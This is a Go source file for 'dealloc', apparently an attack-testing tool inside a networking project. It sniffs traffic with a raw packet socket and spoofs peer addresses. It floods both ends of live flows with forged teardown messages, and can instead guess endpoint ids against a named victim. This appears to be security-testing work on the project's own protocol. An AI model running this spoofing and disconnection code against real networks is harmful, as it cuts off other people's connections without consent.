// Command dealloc forges shim teardown: DEALLOC messages that claim to come
// from a flow's peer. With -sniff it watches the host's interfaces (an
// on-path attacker, e.g. a router) and, for every flow it sees carrying
// data, sends to each end a DEALLOC from the other end's address and port
// with the endpoint id that end receives on, as often as -rate allows; the
// secret it must reveal it does not have, so it sends random bytes.
// Without -sniff it sends to -to from -from with guessed endpoint ids.
// It prints what it sent.
//
//	dealloc -sniff -port 3435 -for 10s -rate 200
//	dealloc -to 10.2.0.2:3435 -from 10.1.0.2:3435 -for 10s -rate 1000
package main

import (
	"encoding/binary"
	"flag"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os"
	"os/signal"
	"sync"
	"syscall"
	"time"

	crand "crypto/rand"

	"golang.org/x/sys/unix"

	"o7s.dev/ouroboros/internal/attack/rawudp"
)

func main() {
	sniff := flag.Bool("sniff", false, "learn flows from the UDP traffic this host sees (on-path)")
	port := flag.Int("port", 3435, "with -sniff: the layer's UDP port")
	to := flag.String("to", "", "without -sniff: the victim, IP:PORT")
	from := flag.String("from", "", "without -sniff: the victim's peer, IP:PORT, whose address the DEALLOCs claim")
	dur := flag.Duration("for", 10*time.Second, "how long to attack")
	rate := flag.Int("rate", 200, "DEALLOCs per second")
	version := flag.Int("version", 2, "the shim management version to speak")
	flag.Parse()
	a := &attack{version: byte(*version), targets: map[target]bool{}}
	var err error
	switch {
	case *sniff:
		err = a.sniff(uint16(*port))
	default:
		var t target
		if t.to, err = netip.ParseAddrPort(*to); err == nil {
			t.from, err = netip.ParseAddrPort(*from)
		}
		a.guess = true
		a.targets[t] = true
	}
	if err == nil {
		err = a.run(*dur, *rate)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "dealloc:", err)
		os.Exit(1)
	}
}

// target is one end of a flow: where to send, whom to claim to be, and
// the endpoint id the end receives on (0 when guessing).
type target struct {
	to, from netip.AddrPort
	eid      uint32
}

type attack struct {
	version byte
	guess   bool
	mu      sync.Mutex
	targets map[target]bool
}

// sniff learns the data flows on the layer's port from every interface.
func (a *attack) sniff(port uint16) error {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, int(htons(unix.ETH_P_IP)))
	if err != nil {
		return fmt.Errorf("packet socket (sniffing needs root): %v", err)
	}
	go func() {
		buf := make([]byte, 65536)
		for {
			n, _, err := unix.Recvfrom(fd, buf, 0)
			if err != nil {
				continue
			}
			if t, ok := parse(buf[:n], port); ok {
				a.mu.Lock()
				if len(a.targets) < 1024 {
					a.targets[t] = true
				}
				a.mu.Unlock()
			}
		}
	}()
	return nil
}

// parse reads an IPv4 UDP datagram between two shims on port carrying
// data (eid not 0): the target is its destination, claiming its source.
func parse(p []byte, port uint16) (target, bool) {
	if len(p) < 20 || p[0]>>4 != 4 || p[9] != unix.IPPROTO_UDP {
		return target{}, false
	}
	ihl := int(p[0]&15) * 4
	if len(p) < ihl+8+5 {
		return target{}, false
	}
	u := p[ihl:]
	sp, dp := binary.BigEndian.Uint16(u), binary.BigEndian.Uint16(u[2:])
	eid := binary.BigEndian.Uint32(u[8:])
	if dp != port || eid == 0 {
		return target{}, false
	}
	src, dst := netip.AddrFrom4([4]byte(p[12:16])), netip.AddrFrom4([4]byte(p[16:20]))
	return target{to: netip.AddrPortFrom(dst, dp), from: netip.AddrPortFrom(src, sp), eid: eid}, true
}

func (a *attack) run(dur time.Duration, rate int) error {
	conn, err := rawudp.Open()
	if err != nil {
		return err
	}
	defer conn.Close()
	every := time.Second / time.Duration(max(rate, 1))
	tick := time.NewTicker(every)
	defer tick.Stop()
	var sent, failed uint64
	seen := map[target]bool{}
	stop := make(chan os.Signal, 1)
	signal.Notify(stop, syscall.SIGINT, syscall.SIGTERM) // stop early, still reporting
	start := time.Now()
	for end := start.Add(dur); time.Now().Before(end) && len(stop) == 0; {
		<-tick.C
		a.mu.Lock()
		ts := make([]target, 0, len(a.targets))
		for t := range a.targets {
			ts = append(ts, t)
			seen[t] = true
		}
		a.mu.Unlock()
		for _, t := range ts {
			if a.guess {
				t.eid = rand.Uint32() | 1
			}
			if err := conn.Send(t.from, t.to, dealloc(a.version, t.eid)); err != nil {
				failed++
			}
			sent++
		}
	}
	fmt.Printf("sent %d forged DEALLOCs to %d flow ends in %v (%d send errors)\n",
		sent, len(seen), time.Since(start).Round(time.Millisecond), failed)
	return nil
}

// dealloc is a DEALLOC for eid; version 2 carries a secret, here random.
func dealloc(version byte, eid uint32) []byte {
	b := []byte{0, 0, 0, 0, version, 3}
	b = binary.BigEndian.AppendUint32(b, eid)
	if version >= 2 {
		s := make([]byte, 16)
		crand.Read(s)
		b = append(b, s...)
	}
	return b
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }
